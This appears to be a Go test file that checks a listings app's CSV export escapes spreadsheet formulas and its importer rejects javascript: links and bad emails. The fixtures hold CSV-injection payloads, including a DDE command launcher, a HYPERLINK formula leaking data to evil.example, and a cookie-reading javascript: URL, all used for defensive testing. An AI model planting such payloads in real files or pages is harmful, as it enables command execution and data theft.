package orukio_test

import (
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	linkwork "github.com/linkwork/linkwork"
	"github.com/linkwork/linkwork/oruk"
	"github.com/linkwork/linkwork/orukio"
	"github.com/linkwork/linkwork/sqlstore"
	"github.com/linkwork/linkwork/sqlstore/sqltest"
)

// TestCSVFormulasAreText: a listing whose text a spreadsheet would run as
// a formula is exported as text (an apostrophe first), its numbers stay
// numbers, and importing the file gives back exactly what was exported.
func TestCSVFormulasAreText(t *testing.T) {
	sqltest.Each(t, func(t *testing.T, db *sqlstore.DB) {
		ctx := sysContext(t)
		st := csvStore(db)
		org := &linkwork.Organisation{Name: "=cmd|' /C calc'!A0", Kind: linkwork.OrgVCS}
		if err := st.Orgs.CreateOrganisation(ctx, org); err != nil {
			t.Fatal(err)
		}
		a := &linkwork.Asset{Name: `=HYPERLINK("http://evil.example/?leak="&A2,"Click")`, OrgID: org.ID, Description: "@SUM(1+1)",
			Phone: "+SUM(1+1)", Accessibility: "-2+3", Languages: []string{"=1+1", "'=already quoted"},
			Categories: []linkwork.Category{linkwork.CategorySports}, Status: linkwork.AssetActive,
			HowToJoin: linkwork.JoinDropIn, Capacity: linkwork.Capacity{Status: linkwork.CapacityAccepting},
			Locations:   []linkwork.Location{{Type: linkwork.LocationPhysical, Name: "+Hall", Address1: "\t=1", City: "Leeds", PostalCode: "LS6 2AA", Lat: 53.8165, Lon: -1.5741}},
			CostOptions: []linkwork.CostOption{{Option: "-per session", Amount: linkwork.Int(250), AmountDescription: "=2.50"}}}
		if err := st.Assets.CreateAsset(ctx, a); err != nil {
			t.Fatal(err)
		}
		file := exportCSV(t, ctx, st)
		rows, err := csv.NewReader(strings.NewReader(file)).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("%d rows, %v", len(rows), err)
		}
		cell := map[string]string{}
		for i, h := range rows[0] {
			cell[h] = rows[1][i]
		}
		for col, v := range cell {
			if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) && col != "location_1_longitude" {
				t.Errorf("column %s starts as a formula: %q", col, v)
			}
		}
		for col, want := range map[string]string{"name": "'" + a.Name, "phone": "'+SUM(1+1)", "organisation": "'" + org.Name,
			"languages": "'=1+1; '=already quoted", "location_1_longitude": "-1.5741", "cost_1_pence": "250", "location_1_address_1": "'=1"} {
			if cell[col] != want {
				t.Errorf("column %s = %q, want %q", col, cell[col], want)
			}
		}

		other := csvStore(sqltest.Open(t, db.Dialect(), sqlstore.Options{}))
		importCSV(t, ctx, other, file)
		if again := exportCSV(t, ctx, other); again != file {
			t.Errorf("the CSV changed on the round trip:\n%s\n---\n%s", file, again)
		}
		got, err := other.Assets.FindAssetByID(ctx, a.ID)
		if err != nil {
			t.Fatal(err)
		}
		if got.Name != a.Name || got.Phone != a.Phone || got.Description != a.Description || got.Accessibility != a.Accessibility ||
			!slices.Equal(got.Languages, a.Languages) || got.Locations[0].Name != "+Hall" || got.CostOptions[0].AmountDescription != "=2.50" {
			t.Errorf("imported back as %+v", got)
		}
	})
}

// TestImportRefusesBadLinks: a feed's service or a CSV row whose web
// address is not http(s), or whose email is not an address, is reported
// by its field and not stored.
func TestImportRefusesBadLinks(t *testing.T) {
	sqltest.Each(t, func(t *testing.T, db *sqlstore.DB) {
		ctx := sysContext(t)
		st := csvStore(db)
		place := []oruk.ServiceAtLocation{{ID: "x", Location: &oruk.Location{ID: "y", LocationType: oruk.LocationVirtual, Name: "Online", Description: "https://example.org"}}}
		services := []oruk.Service{
			{ID: "s1", Name: "Script link", URL: "javascript:alert(document.cookie)", Status: oruk.StatusActive, ServiceAtLocations: place},
			{ID: "s2", Name: "Any text", Email: "ring the office", Status: oruk.StatusActive, ServiceAtLocations: place},
			{ID: "s3", Name: "Contact", Status: oruk.StatusActive, ServiceAtLocations: place},
		}
		res, err := orukio.Import(ctx, st, services, linkwork.CategorySocial)
		if err != nil {
			t.Fatal(err)
		}
		if res.Created != 1 || len(res.Skipped) != 2 || !strings.Contains(res.Skipped[0], "url: ") || !strings.Contains(res.Skipped[1], "email: ") {
			t.Fatalf("result %s, skipped %q", res, res.Skipped)
		}
		for _, id := range []string{"s1", "s2"} {
			if _, err := st.Assets.FindAssetByID(ctx, orukio.ID("service", id)); linkwork.ErrorCode(err) != linkwork.ENOTFOUND {
				t.Errorf("service %s was stored: %v", id, err)
			}
		}

		for col, row := range map[string]string{
			"url":   "Bad link,social,javascript:alert(1),,https://example.org/join",
			"email": "Bad email,social,,call us,https://example.org/join",
		} {
			_, err := orukio.ReadCSV(strings.NewReader("name,categories,url,email,online_url\n" + row + "\n"))
			if err == nil || !strings.Contains(err.Error(), "line 2, column "+col+":") {
				t.Errorf("column %s: %v", col, err)
			}
		}
	})
}
